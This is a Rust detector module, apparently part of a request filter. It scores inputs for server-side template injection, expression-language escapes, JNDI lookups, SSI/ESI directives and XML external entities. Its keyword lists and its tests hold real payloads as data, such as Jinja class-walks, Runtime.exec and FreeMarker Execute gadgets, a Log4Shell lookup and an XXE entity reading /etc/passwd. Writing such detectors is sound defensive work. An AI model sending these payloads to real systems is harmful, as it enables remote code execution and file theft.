//! Injection into templates, expression languages, logging look-ups, server-side includes and XML.
//!
//! `{{ name }}`, `${name}` and `<%= title %>` are how people write templates. What counts is arithmetic that only a test has, or a way out of
//! the template to the program around it.

use super::Managed;
use super::scan::{after, before, find, has, has_any, is_early, is_word, take, trim};

/// The score from which on a value counts as an attack.
pub(super) const THRESHOLD: u8 = 5;

/// So many expressions of each kind are looked at, and so much of each.
const MOST: usize = 16;
const LONGEST: usize = 512;

/// What begins an expression, and what ends it.
const MARKS: [(&[u8], &[u8]); 13] = [
    (b"{{", b"}"),
    (b"${", b"}"),
    (b"#{", b"}"),
    (b"%{", b"}"),
    (b"*{", b"}"),
    (b"@{", b"}"),
    (b"~{", b"}"),
    (b"{%", b"%}"),
    (b"<%", b"%>"),
    (b"@(", b")"),
    (b"[[", b"]]"),
    (b"[=", b"]"),
    (b"$(", b")"),
];

/// What no template says that only shows something.
const ESCAPES: [&[u8]; 52] = [
    b"__class__",
    b"__globals__",
    b"__mro__",
    b"__subclasses__",
    b"__builtins__",
    b"__import__",
    b"__init__",
    b"__bases__",
    b"__getitem__",
    b"constructor.constructor",
    b"[constructor]",
    b"['constructor']",
    b"constructor(",
    b".constructor.",
    b"getruntime",
    b"processbuilder",
    b"java.lang",
    b"java.util.scanner",
    b"javax.script",
    b"freemarker.template",
    b"?new(",
    b"?api",
    b"_self.env",
    b"registerundefinedfiltercallback",
    b"_memberaccess",
    b"@ognl",
    b"#context",
    b"@java",
    b"#_",
    b"popen(",
    b"system(",
    b"system`",
    b"shell_exec",
    b"passthru",
    b"file_get_contents",
    b"|attr(",
    b"config.items",
    b"config.class",
    b".getclass(",
    b"getclass()",
    b"forname(",
    b"file.open",
    b"file.read",
    b"io.popen",
    b"dir.entries",
    b"dir.glob",
    b"child_process",
    b"process.mainmodule",
    b"process.env",
    b"settings.secret_key",
    b"|filter('system')",
    b"smarty.",
];

/// What a value would evaluate.
pub(super) fn judge(text: &[u8]) -> Option<(Managed, u8)> {
    if !text.iter().any(|byte| matches!(byte, b'{' | b'<' | b'(' | b'[' | b'#' | b'$' | b'_')) {
        return None;
    }
    for (open, close) in MARKS {
        let (mut from, mut left) = (0, MOST);
        while left > 0
            && let Some(at) = find(after(text, from), open).map(|at| from + at)
        {
            left -= 1;
            let inner = before(after(text, at + open.len()), LONGEST);
            let inner = before(inner, find(inner, close).unwrap_or(inner.len()));
            let inner = inner.strip_prefix(b"=").unwrap_or(inner);
            // `$(…)` is a shell's and jQuery's, and `[[…]]` a wiki's.
            let weak = matches!(open, b"$(" | b"@(" | b"[[" | b"[=");
            if arithmetic(inner) {
                return Some((Managed::TemplateProbe, 6));
            }
            if !weak
                && (has_any(inner, &ESCAPES)
                    || known(trim(inner).trim_ascii_end())
                    || (open == b"<%" && has(inner, b"`")))
            {
                return Some((Managed::TemplateEscape, 7));
            }
            from = at + open.len();
        }
    }
    let dunder =
        has(text, b".__class__") || has(text, b"__subclasses__(") || has(text, b"__globals__[") || has(text, b"|attr(");
    let ognl = has_any(
        text,
        &[
            b"#_memberaccess",
            b"@ognl.ognlcontext",
            b"t(java.lang",
            b"#set($",
            b"<#assign",
            b"new java.",
            b"xwork.methodaccessor",
        ],
    );
    let directive =
        has_any(text, &[b"$class.inspect", b"$class.forname", b".class.forname", b"freemarker.template.utility"]);
    if (dunder || ognl || directive) && (is_early(text, find(text, b"(").unwrap_or(0)) || has(text, b"#set($")) {
        return Some((Managed::TemplateEscape, 6));
    }
    include(text).or_else(|| entity(text))
}

/// `7*7`, `'7'*7`, and what a test multiplies otherwise; digits on both sides.
fn arithmetic(inner: &[u8]) -> bool {
    let inner = trim(inner).trim_ascii_end();
    if inner.len() > 40 || !inner.contains(&b'*') {
        return inner.len() > 4
            && inner.iter().filter(|byte| byte.is_ascii_digit()).count() > 3
            && inner.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'+' | b'-' | b' '))
            && inner.contains(&b'+');
    }
    let plain = |byte: &u8| byte.is_ascii_digit() || matches!(byte, b'*' | b'\'' | b'"' | b' ' | b'(' | b')' | b'.');
    inner.iter().all(plain) && inner.split(|byte| *byte == b'*').all(|side| side.iter().any(u8::is_ascii_digit))
}

/// Objects that template engines lay open and that nobody means to show.
fn known(inner: &[u8]) -> bool {
    matches!(
        inner,
        b"config"
            | b"self"
            | b"settings"
            | b"request"
            | b"_self"
            | b"app.request"
            | b"dump(app)"
            | b"debug"
            | b"_context"
            | b"self._templatereference__context"
    ) || has_any(
        inner,
        &[
            b"dump(",
            b"cycler.",
            b"lipsum.",
            b"joiner.",
            b"namespace.__",
            b"url_for.",
            b"request.application",
            b"request['application']",
            b"import os",
            b"system ",
            b"_self.",
            b"['cat",
            b"['id'",
            b"'id'|",
        ],
    ) && inner.iter().any(|byte| matches!(byte, b'.' | b'(' | b'|' | b'['))
}

/// `${jndi:ldap://…}`, with the look-ups that hide it. Prose is no excuse: it is read wherever it stands.
pub(super) fn lookup(text: &[u8]) -> Option<(Managed, u8)> {
    looks_up(text).then_some((Managed::TemplateLookup, 8))
}

fn looks_up(text: &[u8]) -> bool {
    let Some(at) = find(text, b"${").or_else(|| find(text, b"$%7b")) else {
        return has(text, b"jndi:ldap:") || has(text, b"jndi:rmi:") || has(text, b"jndi:dns:");
    };
    let rest = after(text, at + 2);
    if has_any(
        rest,
        &[
            b"jndi:",
            b"${::-",
            b"${lower:",
            b"${upper:",
            b":-j",
            b":-:",
            b"${env:",
            b"${sys:",
            b"${date:",
            b"${java:",
            b"${k8s:",
            b"${ctx:",
        ],
    ) {
        return true;
    }
    let (word, _) = take(rest, |byte| byte.is_ascii_lowercase());
    let known = matches!(
        word,
        b"jndi"
            | b"env"
            | b"sys"
            | b"java"
            | b"lower"
            | b"upper"
            | b"script"
            | b"dns"
            | b"url"
            | b"file"
            | b"base"
            | b"main"
            | b"log"
            | b"docker"
    );
    known && after(rest, word.len()).first() == Some(&b':')
}

/// Directives of servers that put pages together.
fn include(text: &[u8]) -> Option<(Managed, u8)> {
    if let Some(at) = find(text, b"<!--#") {
        let (word, _) = take(trim(after(text, at + 5)), is_word);
        if matches!(
            word,
            b"exec" | b"include" | b"echo" | b"printenv" | b"config" | b"fsize" | b"flastmod" | b"set" | b"if"
        ) {
            return Some((Managed::TemplateInclude, 7));
        }
    }
    has_any(text, &[b"<esi:include", b"<esi:inline", b"<esi:debug", b"<xsl:value-of", b"<xi:include"])
        .then_some((Managed::TemplateInclude, 6))
}

/// An entity that would be read from elsewhere.
fn entity(text: &[u8]) -> Option<(Managed, u8)> {
    let declared =
        find(text, b"<!entity").or_else(|| find(text, b"<!doctype").filter(|at| has(after(text, *at), b"[")));
    if let Some(at) = declared {
        let rest = after(text, at);
        return has_any(rest, &[b"system", b"public", b"<!entity", b"file:"]).then_some((Managed::TemplateEntity, 7));
    }
    let outside = find(text, b"<!doctype").is_some_and(|at| {
        let rest = after(text, at);
        has(rest, b" system") && has(rest, b"://")
    });
    (outside
        || has(text, b"xsi:schemalocation=\"http")
        || has(text, b"<![cdata[") && has(text, b"<!") && has(text, b"script"))
    .then_some((Managed::TemplateEntity, 5))
}

#[cfg(test)]
mod tests {
    use super::{THRESHOLD, judge, lookup};

    fn hit(text: &str) -> bool {
        let text = text.to_ascii_lowercase();
        let found = lookup(text.as_bytes()).or_else(|| judge(text.as_bytes()));
        found.is_some_and(|(_, score)| score >= THRESHOLD)
    }

    #[test]
    fn leads_out_of_a_template() {
        for text in [
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{7*'7'}}",
            "{{config}}",
            "{{''.__class__.__mro__[2].__subclasses__()}}",
            "{{constructor.constructor('alert(1)')()}}",
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "%{(#_memberAccess['a']=true)}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "<%= system('id') %>",
            "<!--#exec cmd=\"ls\"-->",
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
        ] {
            assert!(hit(text), "{text}");
        }
    }

    #[test]
    fn only_shows_something() {
        for text in [
            "{{ user.name }}",
            "${name}",
            "`Hello ${user.first}`",
            "#{title}",
            "<%= post.title %>",
            "{% for x in posts %}{{ x }}{% endfor %}",
            "$(document)",
            "[[Main Page]]",
            "\\frac{{a}}{{b}}",
            "x^{2*y}",
            "100% {sure}",
            "<!-- a comment -->",
            "<!DOCTYPE html><html></html>",
            "what is __init__ in python",
        ] {
            assert!(!hit(text), "{text} {:?}", judge(text.to_ascii_lowercase().as_bytes()));
        }
    }
}
